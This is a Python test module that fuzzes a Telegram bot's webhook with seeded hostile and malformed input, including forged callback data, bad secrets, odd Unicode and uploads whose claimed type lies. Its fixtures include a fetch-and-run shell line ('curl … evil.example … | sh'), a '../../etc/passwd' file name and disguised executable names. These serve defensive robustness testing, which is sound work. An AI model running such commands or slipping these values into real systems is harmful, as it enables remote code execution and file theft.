"""Hostile and odd input over the real webhook: seeded fuzzing, then one directed test per
kind of input that broke the bot.

The bot runs in this process as in production webhook mode: the aiohttp app
of :func:`bot.app.create_webhook_app` around the real dispatcher and
conversation service on the test database (SQLite, and PostgreSQL when
configured), with :class:`~tests.fakebotapi.FakeBotAPI` as the Bot API
server.  The webhook rather than polling because the webhook is where raw
bytes from the network meet the bot: malformed bodies and forged or
non-ASCII secret headers can only be sent there, and each request returns
once its update was handled, so every failure is pinned on the update that
caused it (polling would need waiting and guessing).

The fuzz test (:func:`test_fuzz`) posts ``FUZZ_UPDATES`` updates, one after
another, from a :class:`random.Random` with a fixed seed, for a handful of
users with odd names: valid moves of a scripted applicant (so users get deep
into forms, up to photo and file questions and submission), presses of the
bot's real buttons, of stale ones and of forged callback data (numbers beyond
32 bits, negatives, garbage, over 64 bytes), texts up to 5,000 characters
(Chinese, NUL, control characters, lone surrogates sent as ``\\ud800``
escapes, RTL marks, emoji), known and unknown commands up to 4,090
characters, documents whose claimed type lies (ELF, HTML, scripts, empty
files as PDF or PNG), photos, stickers, locations, edited messages, group
messages, update types the bot does not use, and a few malformed requests.

It fails on any of these, listing each kind of failure with a count and
examples (the update's id and what it was):

* a logged error (a record at ERROR or with a traceback);
* an HTTP status other than 200 for an update, 401 for a wrong, missing or
  non-ASCII secret, 400 for a malformed body with the right secret;
* a message or callback answer the Bot API refused (a text over 4096
  characters, a second answer to one press...);
* the bot's apology for a failed step (``bot.error``);
* a press left unanswered, or a message in a private chat left without reply;
* at the end, a stored upload whose bytes are not what its type says.

The seed makes a run reproducible for the same code; ``STUDIOBOT_FUZZ_SEED``
and ``STUDIOBOT_FUZZ_UPDATES`` change it (a longer hunt, a new seed).
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import string
import time
from collections import Counter, defaultdict
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from aiohttp import web
from sqlmodel import select

from bot.app import create_bot, create_dispatcher, create_webhook_app
from bot.callbacks import DialogCallback
from bot.texts import texts
from dialogs.i18n import Locale
from dialogs.loader import BUILTIN_DIR, ProgramRegistry, load_registry
from dialogs.schema import Program
from dialogs.service import Conversation
from dialogs.ui import Action
from storage.db import SessionFactory
from storage.files import FileStore
from storage.models import Application, Attachment, ChannelIdentity, Person
from studiobot.settings import Settings
from tests.fakebotapi import MAX_TEXT, FakeBotAPI, SentMessage
from tests.tg_driver import upload_update
from tests.walkthrough import Applicant, Press, Text, Upload, png

SEED = int(os.environ.get("STUDIOBOT_FUZZ_SEED", "20261202"))
FUZZ_UPDATES = int(os.environ.get("STUDIOBOT_FUZZ_UPDATES", "2500"))
SECRET = "fuzz-s3cret"
SECRET_HEADER = "X-Telegram-Bot-Api-Secret-Token"
ZH = Locale("zh-CN")
BOT = texts("zh-CN")
APOLOGY = BOT.t("bot.error")
STALE_TEXTS = {BOT.t("bot.stale"), ZH.t("engine.stale"), ZH.t("engine.stale_menu")}
# Methods whose refusal means the user did not get what the bot meant to say.  A
# refused keyboard removal is cosmetic (the bot ignores it on purpose).
MESSAGE_METHODS = {
    "sendmessage",
    "editmessagetext",
    "answercallbackquery",
    "senddocument",
    "sendphoto",
}

# A short program with the upload questions the built-in ones keep for the end, so
# that the fuzzing users reach photo and file questions often.
FUZZ_PROGRAM = """\
id: fuzz-uploads
version: 1
issuer: test-union
seed: "900"
union: 测试市总工会
kind: 职工创新工作室
form_title: 职工创新工作室申报表（测试）
notice: 测试市总工会关于职工创新工作室的通知
review_chain:
  - {id: district, reviewer: 区总工会, opinion_label: 区总工会意见, action: 审核推荐}
sections:
  - id: basic
    title: 基本情况
    questions:
      - {id: name, label: 工作室名称, type: text, help: 第一条, suggest: ["{today}"]}
      - {id: photos, label: 工作室照片, type: photo, max_files: 2, max_size_mb: 1, help: 第五条}
      - id: proof
        label: 证明材料
        type: file
        required: false
        max_files: 2
        accept: [application/pdf, image/png]
        help: 第五条
      - {id: members, label: 成员人数, type: integer, unit: 人, help: 第二条}
      - {id: has_room, label: 是否有固定活动场所, type: yesno, help: 第二条}
      - {id: story, label: 工作室简介, type: longtext, min_chars: 30, help: 第三条}
      - id: fields
        label: 专业领域
        type: multichoice
        options: [机械, 电气, 化工, 信息]
        help: 第三条
      - id: team
        label: 骨干成员
        type: group
        min_rows: 1
        max_rows: 3
        help: 第四条
        fields:
          - {id: name, label: 姓名, type: text}
          - {id: birth, label: 出生年月, type: yearmonth}
          - {id: role, label: 分工, type: choice, options: [负责人, 成员]}
"""
FUZZ_PROGRAM_ID = "fuzz-uploads"

USERS: dict[int, dict[str, Any]] = {
    7001: {"first_name": "张伟", "language_code": "zh-hans"},
    7002: {"first_name": "Ali 🇨🇳", "last_name": "O'Brien <b>", "language_code": "en"},
    7003: {"first_name": "\u202eliame", "username": "rtl_user", "language_code": None},
    7004: {"first_name": "أحمد", "language_code": "ar"},
    7005: {"first_name": "工" * 64, "language_code": "zh-hant"},
    7006: {"first_name": "👨‍👩‍👧", "language_code": "zh"},
}

# --------------------------------------------------------------------------- file bytes

PNG_BYTES = png(1)
JPEG_BYTES = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(64))
    + b"\xff\xd9"
)
PDF_BYTES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x90" * 200
HTML_BYTES = b"<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>"
SCRIPT_BYTES = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
# What the stored bytes of an accepted upload must start with, by the type recorded.
MAGIC = {
    "image/png": (b"\x89PNG\r\n\x1a\n",),
    "image/jpeg": (b"\xff\xd8\xff",),
    "application/pdf": (b"%PDF-",),
    "image/gif": (b"GIF87a", b"GIF89a"),
}


def today() -> dt.date:
    return dt.datetime.now(ZoneInfo("Asia/Shanghai")).date()


def unpack(data: str | None) -> DialogCallback | None:
    """The bot's callback data, or None for anything else."""
    try:
        return DialogCallback.unpack(data or "")
    except (ValueError, TypeError):
        return None


def offered(
    message: SentMessage | None, action: Action, arg: int | None = None, key: str | None = None
) -> str | None:
    """Callback data of the message's button for ``action`` (and ``arg``, ``key``), if any."""
    for row in message.buttons if message is not None else []:
        for button in row:
            data = unpack(button.callback_data)
            if (
                data is not None
                and data.a == action
                and (arg is None or data.g == arg)
                and (not key or getattr(data, "k", "") == key)
            ):
                return button.callback_data
    return None


# --------------------------------------------------------------------------- the bot


class Records(logging.Handler):
    """Every log record at WARNING and above, from any logger."""

    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@dataclass
class Webhook:
    """The bot behind its webhook, the fake Bot API, and what was logged."""

    api: FakeBotAPI
    url: str
    http: aiohttp.ClientSession
    sessions: SessionFactory
    registry: ProgramRegistry
    files: Path
    log: Records

    async def post(self, body: bytes, secret: str | None = SECRET) -> int:
        headers = {"Content-Type": "application/json"}
        if secret is not None:
            headers[SECRET_HEADER] = secret
        async with self.http.post(self.url, data=body, headers=headers) as response:
            await response.read()
            return response.status

    async def send(self, update: dict[str, Any]) -> int:
        return await self.post(json.dumps(update).encode())


@pytest.fixture
async def webhook(sessions: SessionFactory, tmp_path: Path) -> AsyncIterator[Webhook]:
    folder = tmp_path / "programs"
    folder.mkdir()
    (folder / f"{FUZZ_PROGRAM_ID}.yaml").write_text(FUZZ_PROGRAM, encoding="utf-8")
    registry = load_registry(BUILTIN_DIR, folder)
    api = await FakeBotAPI().start()
    for user_id, names in USERS.items():
        api.set_user(user_id, **names)
    settings = Settings(
        _env_file=None,
        bot_token=api.token,
        telegram_api_url=api.url,
        data_dir=tmp_path / "data",
        webhook_url="https://bot.example.org/",
        webhook_secret=SECRET,
    )
    files = tmp_path / "data" / "files"
    conversation = Conversation(
        registry=registry, sessions=sessions, files=FileStore(files), zone=settings.zone
    )
    config = settings.telegram(webhook=True)
    bot = create_bot(config)
    dispatcher = create_dispatcher(config, conversation)
    runner = web.AppRunner(create_webhook_app(config, bot, dispatcher))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    url = f"http://127.0.0.1:{runner.addresses[0][1]}{config.webhook_path}"
    records = Records()
    root = logging.getLogger()
    level = root.level
    root.addHandler(records)
    root.setLevel(min(level, logging.WARNING))
    try:
        timeout = aiohttp.ClientTimeout(total=60)
        async with aiohttp.ClientSession(timeout=timeout) as http:
            yield Webhook(api, url, http, sessions, registry, files, records)
    finally:
        root.removeHandler(records)
        root.setLevel(level)
        await runner.cleanup()
        await bot.session.close()
        await api.stop()


# --------------------------------------------------------------------------- judging


@dataclass
class Shot:
    """One request: what it is, its body, and what the bot owes in return."""

    kind: str
    label: str
    body: bytes
    update_id: int | None = None
    secret: str | None = SECRET
    status: int = 200
    reply_to: int | None = None  # a private chat that must get at least one message
    query: str | None = None  # a callback query that must be answered


def _first_line(text: object, limit: int = 160) -> str:
    lines = str(text).strip().splitlines()
    return (lines[0] if lines else "")[:limit]


def _shape(text: str) -> str:
    """A failure's text with numbers blanked, to count failures of one kind together."""
    return re.sub(r"\d+", "#", text)


def _gist(exc: BaseException) -> str:
    """An exception's type and message up to the first quoted value (which varies)."""
    message = re.split(r"['\"]", _first_line(exc, 400), maxsplit=1)[0]
    return f"{type(exc).__name__}: {message[:90]}"


@dataclass
class Judge:
    """Posts shots and records every way the bot failed one, grouped by kind."""

    hook: Webhook
    counts: Counter[str] = field(default_factory=Counter)
    examples: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    kinds: Counter[str] = field(default_factory=Counter)

    def fail(
        self, problem: str, shot: Shot | None, detail: str = "", *, exact: bool = False
    ) -> None:
        key = problem if exact else _shape(problem)
        self.counts[key] += 1
        if len(self.examples[key]) < 3:
            if shot is None:
                where = "after the run"
            elif shot.update_id is None:
                where = f"request with {shot.label}"
            else:
                where = f"update {shot.update_id} {shot.label}"
            self.examples[key].append(f"{where}{': ' + detail if detail else ''}")

    async def fire(self, shot: Shot) -> int | None:
        api, records = self.hook.api, self.hook.log.records
        self.kinds[shot.kind] += 1
        calls, logged = len(api.calls), len(records)
        try:
            status: int | None = await self.hook.post(shot.body, shot.secret)
        except (aiohttp.ClientError, TimeoutError) as exc:
            self.fail(f"request failed: {type(exc).__name__}", shot, _first_line(exc))
            status = None
        if status is not None and status != shot.status:
            self.fail(f"HTTP {status} for {shot.kind} (want {shot.status})", shot, exact=True)
        for record in records[logged:]:
            error = record.exc_info[1] if record.exc_info else None
            if record.levelno < logging.ERROR and error is None:
                continue
            # Counted by the exception's type and the start of its message; the example
            # keeps more of it.
            what = _gist(error) if error else ""
            self.fail(
                f"logged {record.levelname} {record.name}: "
                f"{_first_line(record.getMessage(), 60)} {what}",
                shot,
                _first_line(error, 240) if error else "",
            )
        new = api.calls[calls:]
        for call in new:
            if call.status >= 400 and call.method in MESSAGE_METHODS:
                text = call.params.get("text")
                size = f" ({len(str(text))} characters)" if text is not None else ""
                self.fail(f"Bot API refused {call.method}: {call.description}", shot, size)
            if call.method == "sendmessage" and call.params.get("text") == APOLOGY:
                self.fail("the bot apologised for a failed step (bot.error)", shot)
        if shot.reply_to is not None and not any(
            c.method == "sendmessage"
            and c.status == 200
            and str(c.params.get("chat_id")) == str(shot.reply_to)
            for c in new
        ):
            self.fail(f"no message back for {shot.kind}", shot)
        if shot.query is not None and shot.query in api.unanswered_callbacks():
            self.fail(f"{shot.kind}: the press was left unanswered", shot)
        return status

    def report(self) -> str:
        lines = [
            f"seed {SEED}: {sum(self.counts.values())} failure(s) of {len(self.counts)} kind(s) "
            f"in {sum(self.kinds.values())} requests ({dict(sorted(self.kinds.items()))})"
        ]
        for key, count in self.counts.most_common():
            lines.append(f"{count:5d} x {key}")
            lines += [f"          e.g. {e}" for e in self.examples[key]]
        return "\n".join(lines)


# --------------------------------------------------------------------------- input

CJK = [chr(c) for c in range(0x4E00, 0x9FA6)]
POOLS: dict[str, list[str]] = {
    "ascii": list(string.ascii_letters + string.digits + " .,-/()#@_"),
    "cjk": CJK,
    "punct": list("，。、；：？！“”（）《》—…·￥％"),
    "fullwidth": list("０１２３４５６７８９．－／ＡＢＣ"),
    "nul": ["\x00"],
    "control": [chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32), 127]],
    "surrogate": [chr(c) for c in (0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D)],
    "rtl": ["\u200f", "\u202e", "\u202b", "\u2067", "\u061c"],
    "zero_width": ["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060"],
    "emoji": ["😀", "👨‍👩‍👧", "🇨🇳", "👍🏽", "🧑‍🔧", "❤️", "🀄"],
    "combining": ["e\u0301", "\u0308", "\u20dd", "a\u0336"],
    "space": ["\n", "\r\n", "\t", "\u3000", "\u00a0"],
    "markup": ["<b>", "</i>", "<script>", "&amp;", "<a href='tg://x'>", "*_`[", "<>"],
    "arabic": list("مرحبا بالعالم"),
}
POOL_WEIGHTS = {
    "ascii": 20,
    "cjk": 30,
    "punct": 6,
    "fullwidth": 3,
    "nul": 2,
    "control": 3,
    "surrogate": 2,
    "rtl": 2,
    "zero_width": 2,
    "emoji": 4,
    "combining": 2,
    "space": 4,
    "markup": 3,
    "arabic": 2,
}
PLAUSIBLE = [
    "20260520",
    "2026-05-20",
    "2026年5月20日",
    "1985年3月",
    "198503",
    "1985.3",
    "12.5",
    "35.5",
    "30",
    "0",
    "-1",
    "1e309",
    "NaN",
    "inf",
    "9" * 40,
    "0411-82610410",
    "+86 138 0000 0000",
    "今天",
    "是",
    "否",
    "男",
    "张伟",
    "１２３",
    "٣٤",
    "12,5",
    "1/2",
    "2026-02-30",
    "10000000000",
    "-2147483649",
    "2147483648",
    "0x1F",
    "１９８５年３月",
    "三十",
    "  42  ",
    "4\u200b2",
]
KNOWN_COMMANDS = ["start", "apply", "status", "deadlines", "inbox", "settings", "help", "cancel"]


def flags_of(text: str) -> str:
    found = [
        name
        for name, test in (
            ("NUL", "\x00" in text),
            ("surrogate", any(0xD800 <= ord(c) <= 0xDFFF for c in text)),
            ("control", any(ord(c) < 32 and c not in "\n\r\t" for c in text)),
            ("RTL", any(c in "\u200f\u202e\u202b\u2067\u061c" for c in text)),
        )
        if test
    ]
    return f"; {', '.join(found)}" if found else ""


class Fuzzer:
    """Decides the next request from a seeded generator and what the bot showed so far."""

    def __init__(self, hook: Webhook, rng: Random) -> None:
        self.hook = hook
        self.api = hook.api
        self.rng = rng
        self.users = list(USERS)
        self.applicants: dict[tuple[int, int], Applicant] = {}
        self.texts_sent: dict[int, list[dict[str, Any]]] = defaultdict(list)
        self.photo_seed = 100
        self.uploads = 0  # valid uploads sent by the applicant (shows the fuzz gets far)
        # Users the applicant last saw at an upload question: they get more documents,
        # so that lying files meet questions that take files.
        self.at_upload: set[int] = set()
        fuzz = hook.registry.get(FUZZ_PROGRAM_ID)
        assert fuzz is not None
        self.fuzz_title = fuzz.button_title

    # --------------------------------------------------------------- helpers
    def text(self) -> str:
        rng = self.rng
        mode = rng.choices(["short", "medium", "long", "plausible"], [45, 25, 10, 20])[0]
        if mode == "plausible":
            return rng.choice(PLAUSIBLE)
        length = {
            "short": rng.randint(1, 40),
            "medium": rng.randint(41, 600),
            "long": rng.randint(601, 5000),
        }[mode]
        names = list(POOL_WEIGHTS)
        weights = [POOL_WEIGHTS[n] for n in names]
        out: list[str] = []
        size = 0
        while size < length:
            pool = POOLS[rng.choices(names, weights)[0]]
            run = "".join(rng.choice(pool) for _ in range(rng.randint(1, 12)))
            out.append(run)
            size += len(run)
        text = "".join(out)[:length]
        return text if text.strip() else "空" + text

    def shot(
        self,
        kind: str,
        label: str,
        update: dict[str, Any],
        *,
        reply: int | None = None,
        query: str | None = None,
    ) -> Shot:
        # json.dumps escapes lone surrogates as \\udXXX, as a client's JSON would carry them.
        return Shot(
            kind,
            label,
            json.dumps(update).encode(),
            int(update["update_id"]),
            reply_to=reply,
            query=query,
        )

    def keyboard(self, user: int) -> SentMessage | None:
        try:
            return self.api.last_message(user, with_buttons=True)
        except LookupError:
            return None

    def press(self, kind: str, user: int, message: Any, data: str | None, label: str) -> Shot:
        update = self.api.callback_update(user, message, data)
        return self.shot(kind, label, update, query=update["callback_query"]["id"])

    async def active(self, user: int) -> Application | None:
        async with self.hook.sessions() as session:
            row = (
                (
                    await session.execute(
                        select(Application)
                        .join(Person, Person.active_application_id == Application.id)  # type: ignore[arg-type]
                        .join(ChannelIdentity, ChannelIdentity.person_id == Person.id)  # type: ignore[arg-type]
                        .where(
                            ChannelIdentity.channel == "telegram",
                            ChannelIdentity.external_id == str(user),
                        )
                    )
                )
                .scalars()
                .first()
            )
        return row if row is not None and row.status == "draft" else None

    # --------------------------------------------------------------- kinds
    async def valid(self, user: int) -> Shot:
        """What a reasonable applicant does next: open a program, answer, press on."""
        app = await self.active(user)
        shown = self.keyboard(user)
        if app is None:
            picks = [
                b
                for row in (shown.buttons if shown else [])
                for b in row
                if (cb := unpack(b.callback_data)) is not None and cb.a == Action.PICK_PROGRAM
            ]
            if not picks:
                return self.command(user, "apply", "valid")
            ours = [b for b in picks if b.text.startswith(self.fuzz_title)]
            button = ours[0] if ours and self.rng.random() < 0.5 else self.rng.choice(picks)
            return self.press(
                "valid press", user, shown, button.callback_data, f"pick {button.text[:20]!r}"
            )
        program = self.hook.registry.get(app.program_id)
        assert program is not None
        assert app.id is not None
        applicant = self.applicants.setdefault((user, app.id), Applicant(program, today()))
        try:
            move = applicant.next_move(app.answers, app.cursor)
        except StopIteration:
            return self.command(user, "apply", "valid")
        self.at_upload.discard(user)
        if isinstance(move, Text):
            update = self.api.message_update(user, text=move.text)
            self.texts_sent[user].append(update)
            return self.shot("valid text", f"answer {move.text[:20]!r}", update, reply=user)
        if isinstance(move, Upload):
            self.at_upload.add(user)
            self.uploads += 1
            update = upload_update(self.api, user, move)
            return self.shot("valid upload", f"upload {move.file_name}", update, reply=user)
        assert isinstance(move, Press)
        data = offered(shown, move.action, move.arg, getattr(move, "key", None))
        if data is not None:
            return self.press("valid press", user, shown, data, f"{move.action.name}({move.arg})")
        # The question is not on the latest keyboard (noise came between): /start shows it.
        return self.command(user, "start", "valid")

    def real_press(self, user: int) -> Shot:
        shown = self.keyboard(user)
        if shown is None:
            return self.command(user, "apply", "command")
        button = self.rng.choice([b for row in shown.buttons for b in row if b.callback_data])
        return self.press("button", user, shown, button.callback_data, f"{button.text[:20]!r}")

    def stale_press(self, user: int) -> Shot:
        old = [m for m in self.api.sent_to(user)[:-1] if m.original_buttons]
        if not old:
            return self.real_press(user)
        message = self.rng.choice(old)
        button = self.rng.choice([b for row in message.original_buttons for b in row])
        return self.press(
            "stale button",
            user,
            message,
            button.callback_data,
            f"{button.text[:20]!r} of message {message.message_id}",
        )

    def forged_data(self, user: int) -> str:
        """Callback data a client could forge, derived from a real button's data so that
        it follows whatever layout the bot uses (``<prefix>:<action>:<arg>:<app>:<rev>...``)."""
        rng = self.rng
        shown = self.keyboard(user)
        datas = (
            [b.callback_data for row in shown.buttons for b in row if b.callback_data]
            if shown is not None
            else []
        )
        parts = (rng.choice(datas) if datas else "d2:7:0:1:1:").split(":")
        big = [2147483648, 2**31 - 1, -2147483649, 2**63, 2**64 + 1, 10**30, -1, -(10**12)]
        style = rng.randrange(7)
        if style <= 2 and len(parts) >= 5:  # numbers out of range; any action, RESUME often
            if rng.random() < 0.3:
                parts[1] = str(int(Action.RESUME))
            for i in rng.sample(range(1, 5), rng.randint(1, 2)):
                parts[i] = str(rng.choice(big))
            return ":".join(parts)
        if style == 3 and len(parts) >= 2:  # the real layout, bent
            bent = list(parts)
            i = rng.randrange(1, len(bent))
            bent[i] = rng.choice(
                ["", "x", " 1", "1e3", "0x1", "\u0661", "007", "../..", "键", "a" * 30, "-0"]
            )
            if rng.random() < 0.3:
                bent.append(rng.choice(["9", "", "extra"]))
            if rng.random() < 0.2:
                bent[0] = rng.choice(["d1", "d9", "D2", ""])
            return ":".join(bent)
        if style == 4:  # not our layout at all
            return rng.choice(["", "d1", "d2", "d2:::", "null", "{}", "\x00", "д2:7:0:1:1:"])
        if style == 5:  # long: over Telegram's 64 bytes
            return ":".join([*parts[:2], "9" * rng.randint(60, 200), *parts[3:]])
        return "".join(rng.choice(string.printable) for _ in range(rng.randint(1, 64)))

    def forged_press(self, user: int) -> Shot:
        rng = self.rng
        data = self.forged_data(user)
        shown = self.keyboard(user)
        where = rng.random()
        message: Any
        if where < 0.6 and shown is not None:
            message = shown
        elif where < 0.75:
            message = None  # as from an inline message
        elif where < 0.9:  # a message Telegram no longer returns (older than 48 hours)
            message = {"chat": {"id": user, "type": "private"}, "message_id": 1, "date": 0}
        else:  # a message the bot never sent
            message = {
                "message_id": 10**9,
                "date": int(time.time()),
                "text": "伪造",
                "chat": {"id": user, "type": "private", "first_name": "x"},
                "from": self.api.bot_user,
                "reply_markup": {"inline_keyboard": [[{"text": "x", "callback_data": "d1:9"}]]},
            }
        if rng.random() < 0.05:
            return self.press("forged button", user, message, None, "press without data")
        return self.press("forged button", user, message, data, f"data {data[:40]!r}")

    def command(self, user: int, name: str | None = None, kind: str = "command") -> Shot:
        rng = self.rng
        if name is None:
            style = rng.randrange(10)
            if style < 5:
                name = rng.choice(KNOWN_COMMANDS)
                name = rng.choice([name, name.upper(), name.title()])
            elif style < 7:
                name = rng.choice(["foo", "start_1", "申报", "apply@other_bot", "_", "x" * 32])
            else:
                name = "x" * rng.choice([33, 100, 1000, 4000, 4089])
        args = self.text()[:200] if kind == "command" and rng.random() < 0.2 else ""
        suffix = "@studio_test_bot" if kind == "command" and rng.random() < 0.1 else ""
        update = self.api.command_update(user, name + suffix, args)
        label = f"/{name[:20]}{'…' if len(name) > 20 else ''} ({len(name) + 1} chars)"
        return self.shot(kind, label, update, reply=user)

    def typed(self, user: int) -> Shot:
        text = self.text()
        update = self.api.message_update(user, text=text)
        self.texts_sent[user].append(update)
        return self.shot("text", f"text of {len(text)} chars{flags_of(text)}", update, reply=user)

    def document(self, user: int) -> Shot:
        rng = self.rng
        kind, data = rng.choice(
            [
                ("ELF", ELF_BYTES),
                ("HTML", HTML_BYTES),
                ("script", SCRIPT_BYTES),
                ("empty", b""),
                ("zip", b"PK\x03\x04" + rng.randbytes(100)),
                ("random", rng.randbytes(300)),
                ("PNG", png(rng.randint(1000, 9999))),
                ("PDF", PDF_BYTES + rng.randbytes(8)),
                ("JPEG", JPEG_BYTES + rng.randbytes(8)),
            ]
        )
        mime = rng.choice(
            [
                "application/pdf",
                "image/png",
                "image/jpeg",
                "text/html",
                "application/x-executable",
                "application/octet-stream",
                None,
                "",
                "image/svg+xml",
                "x/" + "y" * 200,
            ]
        )
        name = rng.choice(
            [
                "申报材料.pdf",
                "photo.png",
                "report.PDF",
                "../../etc/passwd",
                "a" * 300 + ".pdf",
                "无扩展名",
                None,
                "x.exe",
                "照片.jpg.exe",
                "\u202egpj.exe",
                "con.png",
                "",
            ]
        )
        size = rng.choice([None, None, None, 0, 10**9])
        update = self.api.document_update(user, data, name, mime, file_size=size)
        label = f"document {kind} ({len(data)} bytes) named {str(name)[:20]!r} claimed {mime!r}"
        return self.shot("document", label, update, reply=user)

    def photo(self, user: int) -> Shot:
        self.photo_seed += 1
        data = (
            png(self.photo_seed)
            if self.rng.random() < 0.7
            else JPEG_BYTES + bytes([self.photo_seed % 256])
        )
        caption = self.text()[:1024] if self.rng.random() < 0.3 else None
        update = self.api.photo_update(user, data, caption)
        return self.shot("photo", f"photo caption {len(caption or '')} chars", update, reply=user)

    def other_content(self, user: int) -> Shot:
        rng, api = self.rng, self.api
        kind = rng.choice(
            ["sticker", "location", "contact", "voice", "dice", "venue", "empty", "animation"]
        )
        if kind == "sticker":
            update = api.sticker_update(user, rng.choice(["👍", "😀", ""]))
        elif kind == "location":
            where = {"latitude": rng.uniform(-90, 90), "longitude": rng.uniform(-180, 180)}
            update = api.message_update(user, location=where)
        elif kind == "contact":
            update = api.message_update(
                user, contact={"phone_number": "+8613800000000", "first_name": self.text()[:64]}
            )
        elif kind == "voice":
            stored = api.add_file(b"OggS" + rng.randbytes(50), folder="voice", suffix=".oga")
            update = api.message_update(
                user,
                voice={
                    "file_id": stored.file_id,
                    "file_unique_id": stored.file_unique_id,
                    "duration": 3,
                    "mime_type": "audio/ogg",
                },
            )
        elif kind == "dice":
            update = api.message_update(user, dice={"emoji": "🎲", "value": rng.randint(1, 6)})
        elif kind == "venue":
            update = api.message_update(
                user,
                venue={
                    "location": {"latitude": 38.9, "longitude": 121.6},
                    "title": self.text()[:100],
                    "address": "大连",
                },
                location={"latitude": 38.9, "longitude": 121.6},
            )
        elif kind == "animation":
            stored = api.add_file(b"GIF89a" + rng.randbytes(40), folder="animations", suffix=".mp4")
            meta = {"file_id": stored.file_id, "file_unique_id": stored.file_unique_id}
            update = api.message_update(
                user,
                animation={**meta, "width": 10, "height": 10, "duration": 1},
                document={**meta, "file_name": "a.gif.mp4", "mime_type": "video/mp4"},
            )
        else:
            update = api.message_update(user)
        return self.shot("other content", kind, update, reply=user)

    def edited(self, user: int) -> Shot:
        earlier = self.texts_sent[user]
        if not earlier:
            return self.typed(user)
        original = self.rng.choice(earlier)["message"]
        text = self.text()
        message = {**original, "text": text, "edit_date": int(time.time())}
        message.pop("entities", None)
        update = self.api.build_update({"edited_message": message})
        return self.shot(
            "edited message", f"edit to {len(text)} chars{flags_of(text)}", update, reply=user
        )

    def elsewhere(self, user: int) -> Shot:
        """Updates from outside a private chat, or of types the bot does not use."""
        rng, api = self.rng, self.api
        now = int(time.time())
        kind = rng.choice(["group", "channel post", "member", "reaction", "future"])
        sender = {"id": user, "is_bot": False, "first_name": USERS[user]["first_name"]}
        group = {"id": -100_123_456, "type": "supergroup", "title": "创新工作室群"}
        if kind == "group":
            text = rng.choice(["/apply", "/start@studio_test_bot", self.text()])
            payload: dict[str, Any] = {
                "message": {
                    "message_id": rng.randint(1, 10**6),
                    "date": now,
                    "chat": group,
                    "from": sender,
                    "text": text,
                }
            }
        elif kind == "channel post":
            payload = {
                "channel_post": {
                    "message_id": rng.randint(1, 10**6),
                    "date": now,
                    "text": self.text(),
                    "chat": {"id": -100_999, "type": "channel", "title": "频道"},
                }
            }
        elif kind == "member":
            payload = {
                "my_chat_member": {
                    "chat": {"id": user, "type": "private", "first_name": sender["first_name"]},
                    "from": sender,
                    "date": now,
                    "old_chat_member": {"status": "member", "user": api.bot_user},
                    "new_chat_member": {"status": "kicked", "user": api.bot_user, "until_date": 0},
                }
            }
        elif kind == "reaction":
            payload = {
                "message_reaction": {
                    "chat": {"id": user, "type": "private"},
                    "message_id": 1,
                    "user": sender,
                    "date": now,
                    "old_reaction": [],
                    "new_reaction": [{"type": "emoji", "emoji": "👍"}],
                }
            }
        else:
            payload = {"future_update_kind": {"x": 1}}
        return self.shot("elsewhere", kind, api.build_update(payload))

    def bad_request(self) -> Shot:
        rng = self.rng
        good = json.dumps(self.api.message_update(self.users[0], text="伪造的消息")).encode()
        style = rng.randrange(3)
        if style == 0:
            secret = rng.choice([None, "", "wrong", SECRET + "x", SECRET[:-1], SECRET.upper()])
            return Shot("bad secret", f"secret {secret!r}", good, secret=secret, status=401)
        if style == 1:
            secret = rng.choice(["秘密", SECRET + "é", "s3cret\u00a0", "🔑", SECRET + "\u200b"])
            return Shot("non-ASCII secret", f"secret {secret!r}", good, secret=secret, status=401)
        body = rng.choice(
            [
                b"",
                b"{",
                b"null",
                b"[]",
                b'"update"',
                b"42",
                b"\xff\xfe\x00{",
                b"{}}",
                b'{"update_id": "abc"}',
                b'{"message": {"text": "hi"}}',
                b'{"update_id": 5, "message": 7}',
                b'{"update_id": 5, "callback_query": {"id": 1}}',
                b'{"update_id": 1e400}',
                b'{"update_id": -1, "message": {"chat": {}}}',
                b"{" * 1000 + b"}" * 1000,
            ]
        )
        return Shot("malformed body", f"body {body[:30]!r}", body, status=400)

    async def next(self) -> Shot:
        rng = self.rng
        user = rng.choice(self.users)
        if user in self.at_upload and rng.random() < 0.5:
            return self.document(user)
        kind = rng.choices(
            [
                "valid",
                "button",
                "stale",
                "forged",
                "text",
                "command",
                "document",
                "photo",
                "other",
                "edited",
                "elsewhere",
                "bad",
            ],
            [34, 10, 5, 7, 17, 7, 6, 3, 4, 2, 2, 3],
        )[0]
        if kind == "valid":
            return await self.valid(user)
        if kind == "bad":
            return self.bad_request()
        make: dict[str, Callable[[int], Shot]] = {
            "button": self.real_press,
            "stale": self.stale_press,
            "forged": self.forged_press,
            "text": self.typed,
            "command": self.command,
            "document": self.document,
            "photo": self.photo,
            "other": self.other_content,
            "edited": self.edited,
            "elsewhere": self.elsewhere,
        }
        return make[kind](user)


async def check_uploads(hook: Webhook, judge: Judge) -> int:
    """Every stored upload's bytes are what its recorded type says; returns how many."""
    async with hook.sessions() as session:
        attachments = (await session.execute(select(Attachment))).scalars().all()
    for att in attachments:
        if not att.storage_path:
            continue  # kept by reference, not downloaded
        data = (hook.files / att.storage_path).read_bytes()
        magic = MAGIC.get(att.mime_type)
        if magic is None or not data.startswith(magic):
            judge.fail(
                f"{what_bytes(data)} accepted as an upload of type {att.mime_type!r}",
                None,
                f"named {att.file_name[:40]!r}, starting {data[:12]!r}",
                exact=True,
            )
    return len(attachments)


def what_bytes(data: bytes) -> str:
    """What the fuzz's fake files are, by their first bytes."""
    if not data:
        return "an empty file"
    for name, start in [
